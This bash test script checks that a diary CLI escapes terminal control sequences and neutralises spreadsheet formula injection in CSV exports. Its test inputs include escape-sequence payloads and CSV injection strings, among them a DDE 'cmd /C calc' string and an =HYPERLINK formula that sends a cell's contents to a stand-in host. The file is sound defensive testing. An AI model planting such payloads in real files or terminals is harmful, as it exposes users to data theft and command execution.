#!/usr/bin/env bash
# End-to-end tests of terminal and spreadsheet safety. What a diary holds and what files
# and arguments say reaches the terminal escaped: an imported time cannot set the window
# title, a note cannot fake list lines, clear the screen or reverse text. A CSV export
# opens in a spreadsheet without running anything, and imports back exactly.
. "$(dirname "$0")/lib.sh"

ESC=$'\e'; BEL=$'\a'
# no_raw TEXT WHAT: TEXT holds none of ESC, BEL, CR, C1 (UTF-8 or raw) or bidi overrides.
no_raw() {
    CHECKS=$((CHECKS + 1))
    if printf '%s' "$1" | LC_ALL=C grep -q -P '[\x00-\x08\x0b-\x1f\x7f]|\xc2[\x80-\x9f]|\xe2\x80[\xaa-\xae]|\xe2\x81[\xa6-\xa9]'; then
        fail "$2 holds raw control characters: $(printf '%s' "$1" | od -c | head -5)"
    fi
}

# Error messages that quote a file or an argument.
printf '{"time":"2026\\u001b]0;pwned\\u0007","kind":"note","note":"x"}\n' >"$WORK/evil.jsonl"
run import "$WORK/evil.jsonl"; expect_rc 1
no_raw "$ERR" "import error"; expect_err_contains '\x1b]0;pwned\x07'
printf 'time,kind,name,value,minutes,region,note\n2026-03-01T08:00,pain%s[2J,,5,,,\n' "$ESC" >"$WORK/evil.csv"
run import "$WORK/evil.csv"; expect_rc 1; no_raw "$ERR" "CSV import error"
run "pain${ESC}[31m";               expect_rc 2; no_raw "$ERR" "unknown command"
run log pain 5 --at "now${BEL}";    expect_rc 1; no_raw "$ERR" "log error"
run list --kind "x${ESC}]0;t${BEL}"; expect_rc 1; no_raw "$ERR" "list error"

# Notes that try to steer the terminal or pass for other entries.
run log note $'fine today\n#2      2026-03-09 08:00  pain 0' --at 2026-03-09T07:00; expect_rc 0
no_raw "$OUT" "log confirmation"
run log note $'a\u202eevil\u2066x\u2069 and \u009b31m red' --at 2026-03-09T09:00; expect_rc 0
printf '{"time":"2026-03-09T10:00:00+01:00","kind":"note","note":"cr\\rover \\u001b[2J clear"}\n' >"$WORK/cr.jsonl"
run import "$WORK/cr.jsonl"; expect_rc 1; no_raw "$ERR" "import error"   # C0 in notes is refused
run list; expect_rc 0
no_raw "$OUT" "list"
expect_out_contains '\u202eevil\u2066x\u2069 and \u009b31m red'
CHECKS=$((CHECKS + 1))
entries=$(printf '%s\n' "$OUT" | grep -c '^#')
[ "$entries" -eq 2 ] || fail "list shows $entries lines that look like entries, expected 2: $OUT"
CHECKS=$((CHECKS + 1))
printf '%s\n' "$OUT" | grep -q '^ \+| #2      2026-03-09 08:00  pain 0"$' || fail "the note's second line is not indented: $OUT"
for id in 1 2; do run show $id; no_raw "$OUT" "show $id"; done
run show 1; expect_out_contains $'note:     fine today\n          #2'

# CSV for spreadsheets: no cell starts like a formula, and the round trip is exact.
run log note '=HYPERLINK("http://example.invalid/?"&A1,"click")' --at 2026-03-09T11:00
run log note '+1+cmd|'"' /C calc'"'!A0' --at 2026-03-09T11:01
run log note '@SUM(1+1)*cmd' --at 2026-03-09T11:02
run log note "'=already quoted" --at 2026-03-09T11:03
run log note "'tis a plain apostrophe" --at 2026-03-09T11:04
run log task '-2+3' 30m --at 2026-03-09T11:05 --note '-1 better'
run log task '=cmd' 30m --at 2026-03-09T11:05
run log factor --at 2026-03-09T11:06 my_score -- -3.5
run log note $'\tTAB start' --at 2026-03-09T11:07
run export -o "$WORK/out.csv"; expect_rc 0
CHECKS=$((CHECKS + 1))
bad=$(python3 - "$WORK/out.csv" <<'PY'
import csv, sys
for row in list(csv.reader(open(sys.argv[1], newline='')))[1:]:
    for i, cell in enumerate(row):
        if i == 3 and cell.lstrip('-').replace('.', '').isdigit():
            continue  # a number in the value column
        if cell[:1] in ('=', '+', '-', '@', '\t', '\r'):
            print(repr(cell))
PY
)
[ -z "$bad" ] || fail "CSV cells that a spreadsheet would run: $bad"
CHECKS=$((CHECKS + 1)); grep -q ',-3.5,' "$WORK/out.csv" || fail "a negative number lost its form in CSV"
run --db "$WORK/back.db" import "$WORK/out.csv"; expect_rc 0
run --db "$WORK/back.db" export -o "$WORK/back.csv"
CHECKS=$((CHECKS + 1)); cmp -s "$WORK/out.csv" "$WORK/back.csv" || fail "CSV export, import, export differs"
run --db "$WORK/back.db" export --format jsonl
expect_out_contains '"note":"=HYPERLINK('
expect_out_contains '"note":"'"'"'=already quoted"'
expect_out_contains '"note":"'"'"'tis a plain apostrophe"'
expect_out_contains '"name":"-2+3"'
expect_out_contains '"note":"-1 better"'
expect_out_contains '"name":"=cmd"'
finish
